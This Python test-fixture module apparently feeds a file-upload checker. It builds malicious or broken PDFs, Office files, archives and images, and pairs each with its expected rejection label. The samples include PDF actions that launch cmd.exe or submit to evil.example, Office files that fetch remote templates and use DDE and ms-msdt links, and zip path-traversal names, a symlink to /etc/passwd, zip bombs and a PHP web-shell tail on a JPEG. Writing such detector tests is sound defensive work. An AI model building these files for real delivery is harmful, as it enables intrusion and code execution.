"""Files that harm, lie, hide or are broken: what each is -> its bytes, and the word of its refusal."""

from __future__ import annotations

import io
import stat
import struct
import zipfile

import papers
import pikepdf
from pikepdf import Array, Dictionary, Name

from app.files.look import MOST_FILES_IN_ARCHIVE


def act(**keys):
    """Return an edit that lets the document do something when it is opened."""

    def edit(document):
        document.Root.OpenAction = Dictionary(Type=Name.Action, **keys)

    return edit


def annotated(**keys):
    """Return an edit that puts an annotation on the page."""

    def edit(document):
        annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **keys)
        document.pages[0].Annots = Array([document.make_indirect(annotation)])

    return edit


def with_script_by_name(document):
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))


def with_embedded_file(document):
    document.attachments["tool.exe"] = b"MZ"


def with_xfa(document):
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=Array([]))


def link(document):
    annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="https://kase.kz"))(document)


PDFS = {
    "JavaScript when opened": (papers.pdf(edit=act(S=Name.JavaScript, JS="app.alert(1)")), "active"),
    "JavaScript by name": (papers.pdf(edit=with_script_by_name), "active"),
    "JavaScript in compressed objects": (
        papers.pdf(edit=with_script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active",
    ),
    "a program launched": (papers.pdf(edit=act(S=Name.Launch, F="cmd.exe")), "active"),
    "a form sent away": (papers.pdf(edit=act(S=Name.SubmitForm, F="https://evil.example")), "active"),
    "another document within opened": (papers.pdf(edit=act(S=Name.GoToE)), "active"),
    "a film": (papers.pdf(edit=annotated(Subtype=Name.RichMedia)), "active"),
    "an XFA form": (papers.pdf(edit=with_xfa), "active"),
    "a file within": (papers.pdf(edit=with_embedded_file), "embedded"),
    "a file on a page": (papers.pdf(edit=annotated(Subtype=Name.FileAttachment)), "embedded"),
    "a password": (papers.pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), "locked"),
    "an archive behind it": (papers.pdf() + papers.zipped({"a.txt": b"a"}), "polyglot"),
    "an archive hidden before its end": (papers.pdf() + papers.zipped({"a.txt": b"a"}) + b"\n%%EOF\n", "polyglot"),
    "a page behind it": (papers.pdf() + b"<script>alert(1)</script>", "polyglot"),
    "something behind it": (papers.pdf() + b"MZ\x90", "trailing"),
    "a page in its head": (papers.pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), "polyglot"),
    "something before it": (b"junk\n" + papers.pdf(), "unknown"),
    "only a header": (b"%PDF-1.7\n", "damaged"),
    "a header and an end": (b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF", "damaged"),
    "an unknown version": (papers.pdf().replace(b"%PDF-1.", b"%PDF-9.", 1), "damaged"),
    "half of it": (papers.pdf()[: len(papers.pdf()) // 2], "damaged"),
    "no pages": (papers.pdf(edit=lambda document: document.pages.__delitem__(0)), "damaged"),
}


WORDS, SETTINGS, SHEETS = "word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "xl/_rels/a.xml.rels"


def outward(part: str, kind: str, target: str) -> dict[str, bytes]:
    """Return the part of relationships that leads out of an office file."""
    return {part: papers.rels((kind, target, True))}


ENTITIES = b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'
DDE = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"
OLE = b"\xd0\xcf\x11\xe0"
OFFICE_FILES = {
    "macros by content type": (
        papers.office("docx", content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "macros by part": (papers.office("xlsx", more={"xl/vbaProject.bin": b"x"}), "macros"),
    "a template": (
        papers.office("docx", content_type=f"{papers.OFFICE}wordprocessingml.template.main+xml"),
        "unknown",
    ),
    "slides": (papers.office("docx", content_type=f"{papers.OFFICE}presentationml.presentation.main+xml"), "unknown"),
    "an active control": (papers.office("docx", more={"word/activeX/activeX1.xml": b"<a/>"}), "active"),
    "an object within": (papers.office("docx", more={"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    "a program within": (papers.office("docx", more={"word/embeddings/a.docx": b"MZ"}), "embedded"),
    "macros in a workbook within": (
        papers.office(
            "docx", more={"word/embeddings/a.xlsx": papers.office("xlsx", more={"xl/vbaProject.bin": b"x"})}
        ),
        "macros",
    ),
    "a picture from elsewhere": (papers.office(more=outward(WORDS, "image", "https://evil.example/a.png")), "external"),
    "a template from elsewhere": (
        papers.office(more=outward(SETTINGS, "attachedTemplate", "https://evil.example/a.dotm")),
        "external",
    ),
    "a template by a share": (
        papers.office(more=outward(SETTINGS, "attachedTemplate", "file://evil/a.dotm")),
        "external",
    ),
    "a link that runs": (
        papers.office(more=outward(WORDS, "hyperlink", "ms-msdt:/id")),
        "external",
    ),
    "a data exchange": (papers.office(words=DDE), "external"),
    "a data exchange of a workbook": (
        papers.office("xlsx", more={"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}),
        "external",
    ),
    "entities": (papers.office(more={"word/a.xml": ENTITIES}), "damaged"),
    "entities in its list": (
        papers.zipped({"[Content_Types].xml": ENTITIES, "_rels/.rels": papers.rels()}),
        "damaged",
    ),
    "no main part": (papers.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}), "damaged"),
    "a bomb": (papers.office("xlsx", more={"xl/bomb.xml": bytes(60 * 1024 * 1024)}), "bomb"),
}  # fmt: skip


def changed(content: bytes, old: bytes, new: bytes, times: int = -1) -> bytes:
    """Return bytes with something replaced that stands there."""
    assert old in content
    return content.replace(old, new, times)


def locked(content: bytes) -> bytes:
    """Return an archive whose parts claim to be encrypted."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        places = [part.header_offset for part in archive.infolist()]
    body = bytearray(content)
    for place in places:
        body[place + 6] |= 1
    at = body.index(b"PK\x01\x02")
    while at >= 0:
        body[at + 8] |= 1
        at = body.find(b"PK\x01\x02", at + 1)
    return bytes(body)


def symlink() -> bytes:
    """Return an archive with a symbolic link."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        part = zipfile.ZipInfo("link.pdf")
        part.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(part, "/etc/passwd")
    return buffer.getvalue()


def twice(name: str) -> bytes:
    """Return an archive with two parts of one name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.pdf", papers.pdf())
        archive.writestr("b.pdf", papers.pdf())
    return changed(buffer.getvalue(), b"b.pdf", name.encode())


def overlapping() -> bytes:
    """Return an archive whose second part is said to stand where the first one does."""
    content = bytearray(papers.zipped({"a.pdf": papers.pdf(), "b.pdf": papers.pdf()}))
    second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 1)
    struct.pack_into("<L", content, second + 42, 0)
    return bytes(content)


GOOD_ZIP = papers.zipped({"a.pdf": papers.pdf()})
DASHED = papers.zipped({"a-b.pdf": papers.pdf()})
ARCHIVES = {
    "a name that climbs": (papers.zipped({"../a.pdf": papers.pdf()}), "part_name"),
    "an absolute name": (papers.zipped({"/etc/a.pdf": papers.pdf()}), "part_name"),
    "a drive's name": (papers.zipped({"C:a.pdf": papers.pdf()}), "part_name"),
    "a name with a backslash": (changed(DASHED, b"a-b.pdf", b"a\\b.pdf"), "part_name"),
    "a name with NUL": (changed(DASHED, b"a-b.pdf", b"a\0b.pdf"), "part_name"),
    "a name that turns the line": (papers.zipped({"a\u202efdp.exe": papers.pdf()}), "part_name"),
    "one name twice": (twice("a.pdf"), "part_name"),
    "one name twice in capitals": (twice("A.PDF"), "part_name"),
    "two names of one part": (changed(GOOD_ZIP, b"a.pdf", b"b.exe", 1), "part_name"),
    "a symbolic link": (symlink(), "part_name"),
    "an archive within": (papers.zipped({"a.zip": GOOD_ZIP}), "nested"),
    "a program": (papers.zipped({"a.exe": b"MZ\x90"}), "within"),
    "a program as a PDF": (papers.zipped({"a.pdf": b"MZ\x90"}), "within"),
    "a script in a PDF": (papers.zipped({"a.pdf": PDFS["JavaScript when opened"][0]}), "within"),
    "a macro": (papers.zipped({"a.xlsx": papers.office("xlsx", more={"xl/vbaProject.bin": b"x"})}), "within"),
    "another kind than its name": (papers.zipped({"a.png": papers.pdf()}), "within"),
    "nothing": (papers.zipped({"folder/": b""}), "empty_archive"),
    "too many": (papers.zipped({f"{n}.png": papers.png() for n in range(MOST_FILES_IN_ARCHIVE + 1)}), "too_many_parts"),
    "a crowd": (papers.zipped({f"{n}.png": b"" for n in range(10_001)}), "too_many_parts"),
    "a bomb": (papers.zipped({"a.png": bytes(60 * 1024 * 1024)}), "bomb"),
    "parts in one another": (overlapping(), "bomb"),
    "a password": (locked(GOOD_ZIP), "locked"),
    "something before it": (b"MZ" + GOOD_ZIP, "unknown"),
    "something behind it": (GOOD_ZIP + b"<html>", "trailing"),
    "half of it": (GOOD_ZIP[: len(GOOD_ZIP) // 2], "damaged"),
    "a wrong checksum": (changed(GOOD_ZIP, GOOD_ZIP[60:64], b"\0\0\0\0", 1), "damaged"),
    "an unknown method": (papers.zipped({"a.pdf": papers.pdf()}, method=zipfile.ZIP_LZMA), "damaged"),
    "a page": (b"<!doctype html><script>alert(1)</script>", "unknown"),
    "a drawing": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown"),
    "a program of Windows": (b"MZ\x90\0", "unknown"),
    "a program of Linux": (b"\x7fELF", "unknown"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "unknown"),
    "words": ("сөздер".encode(), "unknown"),
}  # fmt: skip


PICTURES = {
    "behind a PNG": (papers.png(tail=b"<script>"), "trailing"),
    "an archive behind a PNG": (papers.png(tail=GOOD_ZIP), "trailing"),
    "a PNG as large as a field": (papers.png(100_000, 100_000), "dimensions"),
    "a PNG of no size": (papers.png(0, 1), "damaged"),
    "half a PNG": (papers.png()[:-14], "damaged"),
    "a PNG changed": (changed(papers.png(), b"IDAT", b"iDAT"), "damaged"),
    "only a PNG's head": (b"\x89PNG\r\n\x1a\n", "damaged"),
    "behind a JPEG": (papers.jpg(tail=b"<?php system($_GET[0]); ?>"), "trailing"),
    "an archive behind a JPEG": (papers.jpg(tail=GOOD_ZIP), "trailing"),
    "a JPEG as large as a field": (papers.jpg(65_000, 65_000), "dimensions"),
    "a JPEG of no size": (papers.jpg(0, 0), "damaged"),
    "half a JPEG": (papers.jpg()[:-6], "damaged"),
    "only a JPEG's head": (b"\xff\xd8\xff", "damaged"),
}
